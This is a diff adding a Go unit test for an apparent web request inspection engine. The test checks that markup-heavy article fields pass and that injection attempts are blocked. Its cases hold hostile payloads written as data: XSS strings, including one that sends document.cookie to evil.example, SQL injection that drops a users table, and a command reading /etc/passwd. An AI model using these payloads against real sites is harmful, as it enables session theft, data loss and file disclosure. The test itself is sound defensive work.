@@ -1,6 +1,7 @@
 package inspect
 
 import (
+	"encoding/json"
 	"net/http"
 	"net/url"
 	"strings"
@@ -122,5 +123,63 @@ func TestNumericContextAttacks(t *testing.T) {
 		typed, n, 100*float64(typed)/float64(n), plain, n, 100*float64(plain)/float64(n))
 	if float64(typed) < 0.95*float64(n) || typed <= plain {
 		t.Errorf("%d of %d numeric-context attacks blocked on an integer field, want 95%% and more than the %d without its type", typed, n, plain)
+	}
+}
+
+// A body field learned as free text is judged as free text whatever the
+// shape of its value: a short title naming a tag in a code span, an
+// article that is mostly markup and code. The judgement still needs the
+// evidence of an injection in its prose: executable markup outside quoted
+// code is stored XSS and blocks, as do a quote closed then an SQL clause
+// and a command after a separator.
+func TestLearnedFreeText(t *testing.T) {
+	e := newTestEngine(t)
+	types := map[string]routes.FieldType{
+		"json:$.article.title": routes.TypeRichText, "json:$.article.body": routes.TypeRichText,
+		"json:$.article.description": routes.TypeText, "query:q": routes.TypeText,
+	}
+	article := func(field, v string) Request {
+		b, _ := json.Marshal(map[string]map[string]string{"article": {field: v}})
+		return Request{Method: "POST", URI: "/api/articles", Header: http.Header{"Content-Type": {"application/json"}}, Body: b}
+	}
+	table := "## Technical summary\n\n<table class=\"properties\">\n  <tbody>\n    <tr>\n      <th scope=\"row\">" +
+		"<a href=\"#content_categories\">Content categories</a></th>\n      <td>Flow content</td>\n    </tr>\n  </tbody>\n</table>\n"
+	for _, c := range []struct {
+		name   string
+		req    Request
+		passes bool // with the learned type; every case has a finding without it
+	}{
+		{"a title naming a tag in a code span", article("title", "`<meta>` HTML metadata element"), true},
+		{"a title naming a tag with an attribute", article("title", "`<input type=\"url\">` HTML attribute value"), true},
+		{"a title naming a command", article("title", "`unset` CSS keyword"), true},
+		{"an article that is mostly an HTML table", article("body", table), true},
+		{"a script element in a title", article("title", "<script>alert(document.cookie)</script>"), false},
+		{"an event handler in a title", article("title", "Hi <img src=x onerror=alert(1)>"), false},
+		{"a script after a code block", article("body", "```js\nlet a = 1;\n```\n<script>fetch('//evil.example/'+document.cookie)</script>"), false},
+		{"a javascript: link in a table", article("body", table+"<a href=\"javascript:alert(1)\">more</a>"), false},
+		{"an svg handler in a description", article("description", "<svg/onload=alert(1)>"), false},
+		{"a quote closed then a tautology", article("title", "x' or 1=1-- "), false},
+		{"a stacked query", article("description", "a'; drop table users; --"), false},
+		{"a command after a separator", article("title", "x; cat /etc/passwd"), false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			if v := e.Inspect(&c.req); v.Action == Allow {
+				t.Fatalf("without learned types: %v, want a finding (the case shows nothing otherwise)", v)
+			}
+			c.req.Types = types
+			v := e.Inspect(&c.req)
+			switch {
+			case c.passes && v.Action != Allow:
+				t.Errorf("%s with learned types: %v, want allowed with no finding", c.req.Body, v)
+			case !c.passes && v.Action != Block:
+				t.Errorf("%s with learned types: %v, want blocked", c.req.Body, v)
+			}
+		})
+	}
+	// A query parameter learned as text keeps the judgement of a value: a
+	// search is reflected as it comes.
+	r := Request{Method: "GET", URI: "/search?q=" + url.QueryEscape("`<script>` element"), Types: types}
+	if v := e.Inspect(&r); v.Action != Block {
+		t.Errorf("a script tag in a search learned as text: %v, want blocked", v)
 	}
 }
